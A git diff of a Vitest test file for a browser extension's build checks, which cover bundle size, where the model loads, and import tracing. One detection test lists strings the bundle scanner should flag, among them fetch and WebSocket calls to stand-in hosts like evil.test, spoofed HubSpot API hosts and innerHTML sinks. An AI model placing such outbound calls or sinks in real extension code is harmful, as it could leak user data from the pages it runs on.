@@ -2,7 +2,15 @@
 import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
-import { type BuildName, bundleProblems, CONTENT_SCRIPT_LIMIT, manifestProblems } from '../rules/built'
+import { MODEL } from '@/lib/domain/reading/model.data'
+import { REFUSED } from '../../build/no-html-sink'
+import {
+  type BuildName,
+  bundleProblems,
+  CONTENT_SCRIPT_LIMIT,
+  manifestProblems,
+  scriptsOf,
+} from '../rules/built'
 import { ROOT } from '../rules/source'
 
 const BUILDS: readonly BuildName[] = ['chrome-mv3', 'firefox-mv3']
@@ -28,9 +36,24 @@ describe.each(BUILDS)('%s', (build) => {
     expect(texts.flatMap((path) => bundleProblems(path, readFileSync(at(build, path), 'utf8')))).toEqual([])
   })
 
+  it('holds Preact once, without the place where it would set HTML', () => {
+    const files = readdirSync(at(build, ''), { recursive: true, encoding: 'utf8' })
+    const scripts = files.filter((path) => path.endsWith('.js'))
+    const text = scripts.map((path) => readFileSync(at(build, path), 'utf8')).join('\n')
+    expect(text.split(REFUSED)).toHaveLength(2)
+  })
+
   it(`puts at most ${CONTENT_SCRIPT_LIMIT} bytes into HubSpot's pages`, () => {
     expect(statSync(at(build, SCRIPT)).size).toBeLessThanOrEqual(CONTENT_SCRIPT_LIMIT)
     expect(manifestOf(build).content_scripts[0].js).toEqual([SCRIPT])
+  })
+
+  it('leaves the model of the readers to the background, and out of what the panel loads', () => {
+    const read = (path: string) => readFileSync(at(build, path), 'utf8')
+    const withModel = (start: string) =>
+      scriptsOf(start, read).filter((path) => read(path).includes(MODEL.source))
+    expect(withModel('background.js')).toHaveLength(1)
+    expect(withModel('panel.html')).toEqual([])
   })
 })
 
@@ -103,6 +126,9 @@ describe('what would be noticed in a bundle', () => {
     'fetch("https://evil.test/x")',
     'new WebSocket(`wss://evil.test`)',
     "import('http://cdn.test/a.js')",
+    'x.rendererPackageName="react-dom"',
+    'a["__reactFiber$"+b]',
+    'a.innerHTML=b.__html',
     'a="https://api.hubapi.com.evil.test/"',
     'a="https://evil.test/?https://api.hubapi.com/"',
     'fetch(`https://${host}/x`)',
@@ -117,8 +143,19 @@ describe('what would be noticed in a bundle', () => {
   })
 
   it('nothing in what is only a name', () => {
-    const text =
-      '"http://www.w3.org/2000/svg" "https://react.dev/errors/310" "https://api.hubapi.com/crm" a.eval(1)'
+    const text = '"http://www.w3.org/2000/svg" a.innerHTML==b "https://api.hubapi.com/crm" a.eval(1)'
     expect(bundleProblems('a.js', text)).toEqual([])
   })
+})
+
+it('follows what a page loads, and what that imports statically', () => {
+  const files: Record<string, string> = {
+    'a.html':
+      '<script type="module" src="/chunks/a.js"></script><link rel="modulepreload" href="/chunks/b.js">',
+    '/chunks/a.js': 'import{a as b}from"./b.js";import"./c.js";const d=()=>import("./d.js");export{b}',
+    '/chunks/b.js': 'export*from"./e.js"',
+  }
+  expect(scriptsOf('a.html', (path) => files[path] ?? '').sort()).toEqual(
+    ['a', 'b', 'c', 'e'].map((name) => `/chunks/${name}.js`),
+  )
 })
